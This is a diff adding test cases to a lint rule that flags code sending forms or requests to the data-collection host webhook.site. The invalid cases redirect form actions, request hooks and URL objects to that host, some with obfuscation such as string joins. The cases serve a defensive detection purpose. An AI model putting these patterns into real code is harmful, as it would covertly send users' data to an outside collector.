@@ -3,6 +3,12 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    // addresses of forms, hooks and URL objects that are nobody's collection point
+    { code: 'const form = document.createElement("form"); form.action = "https://checkout.example-service.com/pay"; form.submit();' },
+    { code: 'export const F = () => <form action="https://forms.example-service.com/x" method="post"><input name="q" /></form>;', filename: 'file.jsx' },
+    { code: 'import got from "got"; got.extend({ hooks: { beforeRequest: [(options) => { options.url = new URL("https://eu.example-service.com/x"); }] } });' },
+    { code: 'const u = new URL("https://api.example-service.com/x"); u.host = "eu.example-service.com"; fetch(u);' },
+    { code: 'const links = [{ url: "https://webhook.site/docs" }]; render(links);' },
     { code: 'import axios from "axios"; axios.defaults.baseURL = "https://api.example-service.com"; export const api = axios.create({ baseURL: process.env.API });' },
     { code: 'form.target = "_blank"; const options = { target: "node20", uri: "/x", destination: "dist" };' },
     { code: 'axios.defaults.baseURL = "https://webhook.site/abc";', settings: { allowedHosts: ['webhook.site'] } },
@@ -74,6 +80,13 @@ await ruleTester(rule, {
     { code: 'import { createOpenAI } from "@ai-sdk/openai"; createOpenAI({ baseURL: "http://192.168.0.3:8080/v1" });' },
   ],
   invalid: [
+    { code: 'const form = document.createElement("form"); form.action = "https://webhook.site/abc"; form.submit();', errors: [{ messageId: 'collection' }] },
+    { code: 'export const F = () => <form action="https://webhook.site/abc" method="post"><input name="q" /></form>;', filename: 'file.jsx', errors: [{ messageId: 'collection' }] },
+    { code: 'export const F = () => <button formAction={"https://webhook.site/" + "abc"}>go</button>;', filename: 'file.jsx', errors: [{ messageId: 'collection' }] },
+    { code: 'import got from "got"; got.extend({ hooks: { beforeRequest: [(options) => { options.url = new URL("https://webhook.site/abc"); }] } });', errors: [{ messageId: 'collection' }] },
+    { code: 'const u = new URL("https://api.example-service.com/x"); u.host = "webhook.site"; fetch(u);', errors: [{ messageId: 'collection' }] },
+    { code: 'const u = new URL("https://api.example-service.com/x"); if (late) { u.hostname = ["webhook", "site"].join("."); } fetch(u.href);', errors: [{ messageId: 'collection' }] },
+    { code: 'const u = new URL("https://api.example-service.com/x"); u.href = "https://webhook.site/x"; fetch(u);', errors: [{ messageId: 'collection' }] },
     // addresses that a client, a proxy or a rewrite is given
     { code: 'import axios from "axios"; axios.defaults.baseURL = "https://webhook.site/abc";', errors: [{ messageId: 'collection' }] },
     { code: 'import axios from "axios"; axios.interceptors.request.use((config) => { config.baseURL = "https://webhook.site/abc"; return config; });', errors: [{ messageId: 'collection' }] },
